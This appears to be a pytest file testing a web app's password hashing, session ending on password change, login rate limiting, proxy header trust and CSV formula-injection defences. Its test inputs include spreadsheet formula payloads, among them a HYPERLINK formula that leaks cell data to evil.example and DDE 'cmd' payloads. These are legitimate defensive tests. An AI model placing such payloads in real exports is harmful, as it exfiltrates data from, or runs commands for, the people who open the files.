"""Accounts and exports: Argon2id password hashes, every session ends on a password change, login is
rate-limited per address and per account, CSV exports neutralise spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

from argon2 import extract_parameters

from campaigns.models import User
from campaigns.users import change_password
from tests.conftest import USER_EMAIL, USER_PASSWORD, csrf_from
from tests.security_helpers import seed_objects

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tTAB=1+1", "\r=1+1", "＝1+1", "=cmd|'/c calc'!A1"]


def _login(app: Any, password: str = USER_PASSWORD, addr: str = "127.0.0.1") -> tuple[Any, int]:
    client = app.test_client()
    token = csrf_from(client.get("/login").get_data(as_text=True))
    resp = client.post("/login", data={"email": USER_EMAIL, "password": password, "csrf_token": token},
                       environ_base={"REMOTE_ADDR": addr})
    return client, resp.status_code


def test_passwords_are_stored_as_argon2id_with_strong_parameters(services: Any, user: Any) -> None:
    with services.db.begin() as s:
        stored = s.get(User, user.id).password_hash
    assert stored.startswith("$argon2id$") and USER_PASSWORD not in stored
    params = extract_parameters(stored)
    assert params.memory_cost >= 19 * 1024 and params.time_cost >= 2  # OWASP's minimum for Argon2id


def test_password_change_ends_every_session_and_the_old_password(app: Any, services: Any, user: Any) -> None:
    first, code1 = _login(app)
    second, code2 = _login(app, addr="10.0.0.2")
    assert (code1, code2) == (302, 302) and first.get("/").status_code == 200
    with services.db.begin() as s:
        change_password(s, s.get(User, user.id), "a brand new passphrase")
    for client in (first, second):
        assert client.get("/").status_code == 302  # sent back to the login page
        assert client.get("/contacts/").status_code == 302
    assert _login(app, USER_PASSWORD, addr="10.0.0.3")[1] == 401
    fresh, code = _login(app, "a brand new passphrase", addr="10.0.0.4")
    assert code == 302 and fresh.get("/").status_code == 200


def test_login_is_limited_per_account_even_from_many_addresses(app: Any, user: Any) -> None:
    codes = [_login(app, f"guess-{i}", addr=f"198.51.100.{i}")[1] for i in range(22)]
    assert codes[:20] == [401] * 20 and codes[20:] == [429, 429]
    # a browser new to the account waits too; the owner's known browser does not (test_login_throttle.py)
    assert _login(app, USER_PASSWORD, addr="203.0.113.9")[1] == 429


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_csv_exports_neutralise_formulas(ui: Any, services: Any) -> None:
    dangerous = FORMULAS[0]
    ids = seed_objects(services, dangerous)
    exports = [f"/reports/broadcasts/{ids['broadcast_id']}/export.csv?part={part}"
               for part in ("summary", "links", "series")]
    if "form_id" in ids:
        exports.append(f"/forms/{ids['form_id']}/submissions.csv")
    checked, neutralised = 0, 0
    for url in exports:
        resp = ui.get(url)
        if resp.status_code == 404:
            continue
        assert resp.status_code == 200, url
        for cell in _cells(resp.get_data(as_text=True)):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) or _is_number(cell), (url, cell)
            neutralised += cell.startswith("'=HYPERLINK")
        checked += 1
    assert checked >= 2 and neutralised >= 1  # the hostile names were exported, made inert


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_safe_on_every_formula_start() -> None:
    from campaigns.spreadsheet import csv_safe, to_csv

    for formula in FORMULAS:
        assert str(csv_safe(formula)).startswith("'")
    assert csv_safe(-2) == -2 and csv_safe("plain") == "plain"
    rows = _cells(to_csv(["name"], [[f] for f in FORMULAS]))
    assert all(cell.startswith("'") for cell in rows[1:])


def test_forwarded_for_is_trusted_only_behind_a_configured_proxy(app_overrides: Any, redis_conn: Any) -> None:
    """Without PROXY_HOPS a client cannot dodge the login limit by forging X-Forwarded-For; with it, the
    proxy's header gives each visitor their own limit."""
    from wsgi import create_app

    def attempts(app: Any) -> list[int]:
        from campaigns.users import create_user

        svc = app.extensions["nurture"]
        from tests.conftest import flush_test_redis, truncate_all

        truncate_all(svc.db)
        flush_test_redis(redis_conn)
        with svc.db.begin() as s:
            create_user(s, "x@acme.test", "right password 1")
        client = app.test_client()
        token = csrf_from(client.get("/login").get_data(as_text=True))
        codes = [client.post("/login", data={"email": f"u{i}@acme.test", "password": "wrong", "csrf_token": token},
                             headers={"X-Forwarded-For": f"198.51.100.{i}"}).status_code for i in range(12)]
        svc.db.dispose()
        return codes

    direct = attempts(create_app(app_overrides))
    assert direct[10:] == [429, 429]  # one address (the socket's) whatever the header says
    proxied = attempts(create_app({**app_overrides, "proxy_hops": 1}))
    assert 429 not in proxied  # twelve visitors, one failure each
